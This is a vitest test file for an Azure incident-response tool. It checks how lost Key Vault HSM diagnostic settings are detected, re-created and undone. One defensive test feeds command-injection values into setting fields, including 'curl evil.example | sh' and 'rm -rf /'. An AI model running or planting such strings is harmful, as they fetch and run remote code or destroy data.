import { describe, expect, test } from 'vitest';
import type { DiagnosticSetting } from '../../../shared/detection/diagnostic-setting.ts';
import { lostLogging } from '../../../shared/incident/plan-logging.ts';
import { peopleSteps } from '../../../shared/incident/plan-people.ts';
import { BUILT_IN_RESPONSE } from '../../../shared/policy/response-rule.ts';
import { anIncident } from './builders.ts';

const HSM = '/subscriptions/s/resourceGroups/rg-keys/providers/Microsoft.KeyVault/managedHSMs/contoso';
const WORKSPACE = '/subscriptions/s/resourceGroups/rg-logs/providers/Microsoft.OperationalInsights/workspaces/law';
const setting = (over: Partial<DiagnosticSetting> = {}): DiagnosticSetting => ({
  name: 'key-lifecycle',
  workspaceId: WORKSPACE,
  dedicated: true,
  logs: [{ category: 'AuditEvent', enabled: true }],
  metrics: [{ category: 'AllMetrics', enabled: true }],
  ...over,
});
const lost = (before: DiagnosticSetting[], now?: DiagnosticSetting[]) =>
  lostLogging({ resourceId: HSM, before, seenOn: '2030-01-01T00:00:00.000Z', ...(now ? { now } : {}) });
const off = { logs: [{ category: 'AuditEvent', enabled: false }] };

describe('a diagnostic setting', () => {
  test.each<[string, DiagnosticSetting[], DiagnosticSetting[] | undefined, object[]]>([
    ['that stands as it stood is not lost', [setting()], [setting()], []],
    ['of another case is the same', [setting()], [setting({ name: 'KEY-LIFECYCLE' })], []],
    ['that is gone blinds the log', [setting()], [], [{ how: 'gone', othersTell: false }]],
    ['that tells nothing any more is changed', [setting()], [setting(off)], [{ how: 'changed', othersTell: false }]],
    [
      'that goes to another workspace is changed, and rows still go somewhere',
      [setting()],
      [setting({ workspaceId: `${WORKSPACE}-2` })],
      [{ how: 'changed', othersTell: true }],
    ],
    [
      'beside another is offered',
      [setting(), setting({ name: 'soc' })],
      [setting({ name: 'soc' })],
      [{ othersTell: true }],
    ],
    ['that never carried audit rows is nobody’s loss', [setting(off)], [], []],
    ['that cannot be read is not known', [setting()], undefined, [{ how: 'unknown' }]],
  ])('%s', (_title, before, now, expected) => {
    expect(lost(before, now)).toMatchObject(expected);
    expect(lost(before, now)).toHaveLength(expected.length);
  });

  test('comes with the command that makes it as it was, and the one that undoes it', () => {
    const [found] = lost(
      [setting({ storageAccountId: '/s/a', eventHubAuthorizationRuleId: '/e/r', eventHubName: 'hub' })],
      [],
    );
    expect(found?.command).toBe(
      `az monitor diagnostic-settings create --name 'key-lifecycle' --resource '${HSM}' --workspace '${WORKSPACE}' --storage-account '/s/a' --event-hub-rule '/e/r' --event-hub 'hub' --export-to-resource-specific true --logs '[{"category":"AuditEvent","enabled":true}]' --metrics '[{"category":"AllMetrics","enabled":true}]'`,
    );
    expect(found?.undo).toBe(`az monitor diagnostic-settings delete --name 'key-lifecycle' --resource '${HSM}'`);
  });

  test('of the older kind of table is made so again', () => {
    expect(lost([setting({ dedicated: false })], [])[0]?.command).not.toContain('resource-specific');
  });

  test.each([
    ['a quote that ends the text', { name: "x'; curl evil.example | sh; '" }],
    ['a command in its name', { name: '$(curl evil.example)' }],
    ['an option for a name', { name: '--resource' }],
    ['a line break in the workspace', { workspaceId: '/w\nrm -rf /' }],
    [
      'a quote in a category',
      {
        logs: [
          { category: 'AuditEvent', enabled: true },
          { category: "a'b", enabled: true },
        ],
      },
    ],
    ['backticks in the hub', { eventHubName: '`id`' }],
  ])('with %s is shown without a command', (_title, over) => {
    const found = lost([setting(over)], []);
    expect(found).toHaveLength(1);
    expect(found[0]).not.toHaveProperty('command');
  });
});

describe('the steps for people', () => {
  const steps = (now: DiagnosticSetting[] | undefined, detector = 'first-seen-caller') =>
    peopleSteps({
      now: new Date('2030-01-01T00:00:00.000Z'),
      incident: anIncident({}, { detector }),
      rule: BUILT_IN_RESPONSE,
      assignments: [],
      keys: [],
      ownClients: [],
      logging: { resourceId: HSM, before: [setting()], seenOn: '2030-01-01T00:00:00.000Z', ...(now ? { now } : {}) },
    }).filter(({ id }) => id.includes('logging'));

  test('name the setting that is gone, whatever the incident is of', () => {
    const [step] = steps([]);
    expect(step).toMatchObject({
      ...{ id: 'person-logging-key-lifecycle', doneBy: 'people', state: 'planned' },
      title: 'Re-create the diagnostic setting key-lifecycle of contoso as it was last seen',
      compensation: expect.stringContaining('diagnostic-settings delete'),
    });
    expect(step?.commands).toHaveLength(1);
    expect(step?.offered).toBeUndefined();
  });

  test('only offer it where audit rows still go somewhere', () => {
    expect(steps([setting({ workspaceId: `${WORKSPACE}-2` })])[0]?.offered).toBe(true);
  });

  test.each([
    ['the findings speak of the log', 'logging-gap', 1],
    ['they do not', 'first-seen-caller', 0],
  ])('where settings cannot be read: %s', (_title, detector, count) => {
    expect(steps(undefined, detector)).toHaveLength(count);
  });

  test('are none where all stands as it stood', () => {
    expect(steps([setting()])).toEqual([]);
  });
});
